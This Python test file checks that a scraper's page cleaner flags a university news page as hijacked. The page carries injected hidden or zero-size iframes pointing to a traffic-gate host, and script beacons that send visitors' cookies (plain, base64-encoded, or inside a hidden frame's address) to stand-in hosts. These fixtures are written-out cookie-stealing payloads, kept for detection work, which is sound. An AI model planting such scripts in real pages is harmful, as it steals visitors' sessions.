"""What the run records every visitor getting alike, asked as an act by itself (v41 analysis §1 B5,
B6, B9, §7.1): a frame a script writes off the screen or with no size, to a host the page names
nowhere else (a traffic gate's counter: v41b rc41b-009/-010), and the visitor's cookies sent to
such a host, in whatever dress (an XSS platform's ``new Image().src``: rc41b-013; an image's
address holding btoa(document.cookie); a hidden frame's). A visible written frame, a frame to a
host the page links, a counter beacon that reads no cookie and a script sending one value of its
own cookie stay clean."""
from __future__ import annotations

from scraper.clean import clean_page

URL = "http://jwc.lanshan-college.edu.cn/info/1015/3605.htm"

BODY = ("<p>11月26日,学校召开本科教学工作推进会,围绕课程建设、实践教学等议题开展研讨。</p>"
        "<p>会上,各学院负责人汇报了本学期教学运行情况,就完善教学质量保障体系提出意见建议。</p>"
        "<p>分管校领导在讲话中要求,要认真梳理问题清单,推动各项任务落到实处。</p>")


def _page(tail: str = "", links: str = "") -> bytes:
    return ('<!DOCTYPE html><html><head><meta charset="utf-8"><title>学校召开本科教学工作推进会_教务处</title>'
            '</head><body><header><a href="/">教务处</a><nav><a href="/">首页</a>'
            f'<a href="/tzgg/">通知公告</a>{links}</nav></header>'
            '<article><h1>学校召开本科教学工作推进会</h1><div class="info">发布时间：2024-11-27 来源：教务处</div>'
            f'<div id="vsb_content">{BODY}</div></article>'
            f'<footer><p>主办：教务处</p></footer>{tail}</body></html>').encode()


def _hex(s: str) -> str:
    return "".join(f"\\x{ord(c):02x}" for c in s)


def _frame_writer(style: str, address: str) -> str:
    markup = f"<div style='{style}'><iframe src='{address}'></iframe></div>"
    return f'<script>window.onload=function(){{var d=document.createElement("div");d.innerHTML="{markup}";'\
        'document.body.appendChild(d);}};</script>'


GATE = "http://vrot.qaxbenmuwerto.info/megaadvertize/?keyword=4887005"


def test_an_off_screen_written_frame_is_spam():
    a = clean_page(_page(tail=_frame_writer("position:absolute;top:-1000px;left:-9999px;", GATE)), url=URL)
    assert a.hijacked and any("qaxbenmuwerto" in f.evidence for f in a.findings)
    assert "课程建设" in a.text


def test_a_zero_size_written_frame_is_spam():
    markup = f"<iframe width=0 height=0 frameborder=0 src='{GATE}'></iframe>"
    tail = f'<script>document.write("{_hex(markup)}");</script>'
    a = clean_page(_page(tail=tail), url=URL)
    assert a.hijacked and any("qaxbenmuwerto" in f.evidence for f in a.findings)


def test_a_visible_written_frame_is_clean():
    a = clean_page(_page(tail=_frame_writer("width:300px;height:250px;", GATE)), url=URL)
    assert not a.hijacked


def test_an_off_screen_frame_to_a_host_the_page_links_is_clean():
    links = '<a href="http://vrot.qaxbenmuwerto.info/">合作平台</a><a href="http://www.qaxbenmuwerto.info/a">平台</a>'
    a = clean_page(_page(tail=_frame_writer("position:absolute;top:-1000px;left:-9999px;", GATE), links=links), url=URL)
    assert not a.hijacked


BEACON = ("<script>(function(){(new Image()).src='http://zs.qk/index.php?do=api&id=f&location='"
          "+escape((function(){try{return document.location.href}catch(e){return ''}})())"
          "+'&cookie='+escape((function(){try{return document.cookie}catch(e){return ''}})());})();</script>")


def test_a_cookie_beacon_to_an_unnamed_host_is_spam():
    a = clean_page(_page(tail=BEACON), url=URL)
    assert a.hijacked and any("zs.qk" in f.evidence for f in a.findings)
    assert "课程建设" in a.text


def test_a_counter_beacon_that_reads_no_cookie_is_clean():
    tail = ("<script>(new Image()).src='http://count.qk/c.gif?u='+escape(document.location.href)"
            "+'&r='+escape(document.referrer);</script>")
    assert not clean_page(_page(tail=tail), url=URL).hijacked


def test_a_cookie_beacon_to_a_host_the_page_links_is_clean():
    a = clean_page(_page(tail=BEACON, links='<a href="http://www.zs.qk/">统计</a>'), url=URL)
    assert not a.hijacked


def test_cookies_sent_away_in_base64_are_spam():
    tail = ("<script>var i=document.createElement('img');i.src='https://collect.qk:8443/x?c='+btoa(document.cookie);"
            "document.body.appendChild(i);</script>")
    a = clean_page(_page(tail=tail), url=URL)
    assert a.hijacked and any("collect.qk" in f.evidence for f in a.findings)


def test_cookies_in_a_hidden_frame_address_are_spam():
    tail = ('<script>(function(){var f=document.createElement("iframe");f.width=0;f.height=0;'
            'f.style.display="none";f.src="https://verify.qk/411/"+encodeURI(document.cookie);'
            'document.body.appendChild(f);})();</script>')
    a = clean_page(_page(tail=tail), url=URL)
    assert a.hijacked and any("verify.qk" in f.evidence for f in a.findings)


def test_one_value_of_its_own_cookie_sent_to_a_counter_is_clean():
    tail = ("<script>function getCookie(n){var m=document.cookie.match(new RegExp('(?:^|; )'+n+'=([^;]*)'));"
            "return m?m[1]:'';}(new Image()).src='http://count.qk/c.gif?uid='+getCookie('_uid')"
            "+'&u='+escape(location.href);</script>")
    assert not clean_page(_page(tail=tail), url=URL).hijacked
